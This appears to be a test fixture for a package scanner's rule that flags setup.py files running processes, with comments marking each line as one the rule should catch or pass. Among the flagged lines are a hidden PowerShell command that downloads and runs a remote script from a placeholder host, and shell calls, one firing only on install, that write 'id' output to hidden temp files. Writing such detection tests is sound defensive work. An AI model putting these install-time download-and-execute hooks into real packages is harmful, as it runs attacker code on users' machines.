# provscan-test-path: setup.py
# Fixture for py.setup-runs-process (provscan's own).
import os
import subprocess
import sys
from setuptools import setup

# ok: py.setup-runs-process
version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
# ruleid: py.setup-runs-process
os.system("powershell -w hidden -c iwr https://example.invalid/a.ps1 | iex")
# ruleid: py.setup-runs-process
subprocess.Popen(["/bin/sh", "-c", "id > /tmp/.x"])
# ok: py.setup-runs-process
subprocess.check_call(["cmake", "-S", ".", "-B", "build"])
if sys.argv[-1] == "publish":
    # ok: py.setup-runs-process
    os.system("python setup.py sdist bdist_wheel upload")
    sys.exit()
if "install" in sys.argv:
    # ruleid: py.setup-runs-process
    os.system("bash -c 'id > /tmp/.y'")
if sys.argv[-1] != "publish":
    # ruleid: py.setup-runs-process
    os.system("sh -c 'id > /tmp/.z'")
setup(name="pkg", version=version)
